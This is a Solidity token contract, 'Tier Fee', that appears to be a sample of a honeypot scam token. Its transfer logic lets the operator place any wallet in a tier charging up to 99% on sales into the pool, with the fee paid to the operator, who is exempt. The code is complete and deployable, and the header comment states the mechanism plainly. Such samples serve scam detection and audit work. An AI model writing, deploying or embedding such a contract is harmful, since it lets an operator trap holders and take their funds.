// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @title Personal slippage through tiers, standalone: each wallet has a
/// tier (0 by default) indexing a fee table [1%, 10%, 99%]; the operator
/// moves any wallet between tiers with assignTier(address,uint8). The fee
/// applies to transfers into the pool and goes to the operator.
contract TierFeeToken {
    string public constant name = "Tier Fee";
    string public constant symbol = "TIER";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public operator;
    address public pool;
    uint16[3] private _tierBps = [100, 1000, 9900];
    mapping(address => uint8) private _tier;
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowed;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 supply) {
        operator = msg.sender;
        totalSupply = supply;
        _balances[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function owner() external view returns (address) {
        return operator;
    }

    function setPool(address p) external {
        require(msg.sender == operator && pool == address(0), "TIER: once");
        pool = p;
    }

    function assignTier(address account, uint8 tier) external {
        require(msg.sender == operator, "TIER: operator");
        require(tier < 3, "TIER: tier");
        _tier[account] = tier;
    }

    function balanceOf(address a) external view returns (uint256) {
        return _balances[a];
    }

    function allowance(address a, address s) external view returns (uint256) {
        return _allowed[a][s];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _xfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 a = _allowed[from][msg.sender];
        if (a != type(uint256).max) {
            require(a >= value, "TIER: allowance");
            _allowed[from][msg.sender] = a - value;
        }
        _xfer(from, to, value);
        return true;
    }

    function _xfer(address from, address to, uint256 value) private {
        require(_balances[from] >= value, "TIER: balance");
        unchecked {
            _balances[from] -= value;
        }
        uint256 fee;
        if (to == pool && from != operator) {
            fee = (value * _tierBps[_tier[from]]) / 10_000;
            _balances[operator] += fee;
            emit Transfer(from, operator, fee);
        }
        _balances[to] += value - fee;
        emit Transfer(from, to, value - fee);
    }
}
